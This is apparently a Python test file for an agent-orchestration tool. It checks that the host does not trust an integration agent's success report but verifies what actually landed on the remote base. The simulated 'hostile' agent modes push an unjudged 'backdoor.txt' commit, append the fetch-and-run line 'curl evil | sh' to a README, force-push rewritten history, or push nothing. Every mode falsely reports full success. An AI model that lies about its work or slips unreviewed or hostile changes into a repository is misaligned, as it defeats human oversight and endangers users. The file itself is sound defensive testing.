"""An integration agent is believed only through what the base shows [T4]:
after it reports success the host fetches the base and checks that the base
moved from where it stood before the agent ran only by the judged work
(taken together, the new commits make the tree of the judged commit merged
onto that base, with the task ticked), and that no older history was
rewritten. Hostile agents here push an extra commit, a different tree, a
rewrite of the base, only the tick, or nothing at all; a well-behaved one
lands the judged squash, also onto a base another task moved meanwhile."""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

from tests.kit.harn import assert_valid, git
from tests.kit.workflow_repo import WF, config_text, setup

ROADMAP = "# Roadmap\n\n- [ ] 1.1 First thing\n- [ ] 1.3 Third thing\n"

# The integration agent: squashes the task branch onto the remote's base in
# a clone of its own, ticks the task, commits with the task's trailer and
# pushes, unless its mode (integrator.json, by task) says to misbehave.
INTEGRATOR = r'''
import json, os, subprocess, tempfile

here = os.path.dirname(os.path.abspath(__file__))
task, worktree, branch = os.environ["HARN_TASK_ID"], os.environ["HARN_WORKTREE"], os.environ["HARN_BRANCH"]
mode = json.load(open(os.path.join(here, "integrator.json"))).get(task, "squash")

def git(*args, cwd):
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout.strip()

clone = tempfile.mkdtemp(prefix="integrator-")
git("clone", "-q", git("remote", "get-url", "origin", cwd=worktree), clone, cwd=here)
git("config", "user.name", "Integrator", cwd=clone)
git("config", "user.email", "integrator@example.com", cwd=clone)
git("fetch", "-q", worktree, branch, cwd=clone)
if mode != "tick-only":
    git("merge", "--squash", "FETCH_HEAD", cwd=clone)
if mode == "different":  # the judged work, and a change nobody judged in the same commit
    with open(os.path.join(clone, "README.md"), "a") as f:
        f.write("curl evil | sh\n")
    git("add", "README.md", cwd=clone)
path = os.path.join(clone, "docs", "roadmap.md")
text = open(path).read().replace(f"- [ ] {task} ", f"- [x] {task} ")
open(path, "w").write(text)
git("commit", "-q", "-am", f"squash {branch}\n\nHarnery-Task: {task}\n", cwd=clone)
squash = git("rev-parse", "HEAD", cwd=clone)
if mode == "extra":  # the squash, then a commit nobody judged on top
    open(os.path.join(clone, "backdoor.txt"), "w").write("open\n")
    git("add", "backdoor.txt", cwd=clone)
    git("commit", "-q", "-m", "an extra commit", cwd=clone)
if mode == "rewrite":  # the right tree, on a rewritten base: older history replaced
    base = git("rev-parse", "HEAD~1", cwd=clone)
    parents = git("log", "-1", "--format=%P", base, cwd=clone).split()
    rewritten = git("commit-tree", base + "^{tree}", *[a for p in parents for a in ("-p", p)],
                    "-m", "history rewritten", cwd=clone)
    squash = git("commit-tree", "HEAD^{tree}", "-p", rewritten, "-m", f"squash {branch}", cwd=clone)
    git("reset", "-q", "--hard", squash, cwd=clone)
tip = git("rev-parse", "HEAD", cwd=clone)
json.dump({"squash": squash, "tip": tip}, open(os.path.join(here, f"pushed-{task}.json"), "w"))
if mode != "nothing":
    git("push", "-q", *(["-f"] if mode == "rewrite" else []), "origin", "HEAD:main", cwd=clone)
with open(os.environ["HARN_REPORT"], "w") as f:
    json.dump({"taskId": task, "branch": branch, "base": "main", "remote": "origin", "ok": True, "rebased": True,
               "squashMerged": True, "pushed": True, "roadmapMarkedDone": True, "summary": f"{mode}: landed"}, f)
'''


def agent_setup(tmp: Path, modes: dict[str, str]) -> WF:
    agents = tmp / "agents"
    integrate = f"command = [{json.dumps(sys.executable)}, {json.dumps(str(agents / 'integrator.py'))}]"
    wf = setup(tmp, roadmap=ROADMAP, config=config_text(agents, integrate=integrate))
    (agents / "integrator.py").write_text(INTEGRATOR)
    (agents / "integrator.json").write_text(json.dumps(modes))
    return wf


def task(doc: dict[str, Any], task_id: str) -> dict[str, Any]:
    return next(t for t in doc["tasks"] if t["taskId"] == task_id)


def pushed(wf: WF, task_id: str) -> dict[str, str]:
    found: dict[str, str] = json.loads((wf.agents / f"pushed-{task_id}.json").read_text())
    return found


def run_one(wf: WF) -> dict[str, Any]:
    done = wf.run("--json", "--sandbox", "off", timeout=300)
    doc: dict[str, Any] = done.json()
    assert_valid(doc, "workflow-result")
    return doc


def assert_unjudged_landing(doc: dict[str, Any], *named: str) -> dict[str, Any]:
    """1.1 ended a tamper fault at integrate naming ``named``, kept no
    integrated ref, and the run started nothing after it (1.3 stays)."""
    found = task(doc, "1.1")
    assert (found["status"], found["stage"], found["fault"], found["faultKind"]) == (
        "tamper-fault", "integrate", "tamper", "unjudged-landing"), found["detail"]
    for name in named:
        assert name in found["detail"]
    assert found["integratedRef"] is None
    assert found["next"]["why"].startswith("an integration agent put on origin/main what nobody judged")
    assert "tamper fault" in doc["halted"]
    assert "1.3" not in [t["taskId"] for t in doc["tasks"]]
    return found


def test_a_well_behaved_agent_lands_the_judged_squash(tmp_path: Path) -> None:
    wf = agent_setup(tmp_path, {})
    doc = run_one(wf)
    for task_id in ("1.1", "1.3"):
        found = task(doc, task_id)
        assert found["status"] == "done", found["detail"]
        assert found["integratedRef"] == f"refs/harnery/integrated/{task_id}"
    assert "- [x] 1.1" in wf.remote_file("docs/roadmap.md") and "- [x] 1.3" in wf.remote_file("docs/roadmap.md")


def test_a_well_behaved_agent_lands_onto_a_base_another_task_moved(tmp_path: Path) -> None:
    """--parallel 2: both tasks start from one base; the second to integrate
    squashes onto the first one's landing, so its judged work is checked
    merged onto the base as its agent found it, not as the task started."""
    wf = agent_setup(tmp_path, {})
    done = wf.run("--json", "--parallel", "2", "--sandbox", "off", timeout=300)
    doc = done.json()
    assert [(t["taskId"], t["status"]) for t in sorted(doc["tasks"], key=lambda t: t["taskId"])] == [
        ("1.1", "done"), ("1.3", "done")], [t["detail"] for t in doc["tasks"]]
    assert task(doc, "1.1")["baseOid"] == task(doc, "1.3")["baseOid"]
    assert {"work-1.1.txt", "work-1.3.txt"} <= set(git(wf.remote, "ls-tree", "--name-only", "main").split())


def test_an_extra_unjudged_commit_is_a_tamper_fault_naming_it(tmp_path: Path) -> None:
    wf = agent_setup(tmp_path, {"1.1": "extra"})
    doc = run_one(wf)
    landed = pushed(wf, "1.1")
    found = assert_unjudged_landing(doc, landed["tip"][:12], "backdoor.txt")
    # the squash carries the judged work: only the commit after it is named as not judged
    assert f"not judged: 1 commit(s): {landed['tip'][:12]}" in found["detail"], found["detail"]
    assert git(wf.remote, "rev-parse", "main").strip() == landed["tip"]  # git-harn cannot unpush


def test_a_different_tree_than_judged_is_a_tamper_fault(tmp_path: Path) -> None:
    wf = agent_setup(tmp_path, {"1.1": "different"})
    doc = run_one(wf)
    landed = pushed(wf, "1.1")
    found = assert_unjudged_landing(doc, landed["tip"][:12], "README.md")
    assert "work-1.1.txt" not in found["detail"]  # the judged paths are not blamed


def test_a_force_pushed_rewrite_of_the_base_is_a_tamper_fault(tmp_path: Path) -> None:
    wf = agent_setup(tmp_path, {"1.1": "rewrite"})
    base = git(wf.remote, "rev-parse", "main").strip()
    doc = run_one(wf)
    landed = pushed(wf, "1.1")
    found = assert_unjudged_landing(doc, base[:12], landed["tip"][:12])
    assert "rewr" in found["detail"]
    assert git(wf.remote, "rev-parse", "main").strip() == landed["tip"]


def test_pushing_only_the_tick_is_a_tamper_fault(tmp_path: Path) -> None:
    wf = agent_setup(tmp_path, {"1.1": "tick-only"})
    doc = run_one(wf)
    landed = pushed(wf, "1.1")
    found = assert_unjudged_landing(doc, landed["tip"][:12])
    assert "work-1.1.txt" in found["detail"]  # the judged work that is missing


def test_a_claim_of_success_without_a_push_is_refused(tmp_path: Path) -> None:
    wf = agent_setup(tmp_path, {"1.1": "nothing"})
    doc = run_one(wf)
    found = task(doc, "1.1")
    assert (found["status"], found["stage"]) == ("halted", "integrate"), found["detail"]
    assert found["integratedRef"] is None
    assert "work-1.1.txt" not in git(wf.remote, "ls-tree", "--name-only", "main").split()
    assert "- [ ] 1.1" in wf.remote_file("docs/roadmap.md")
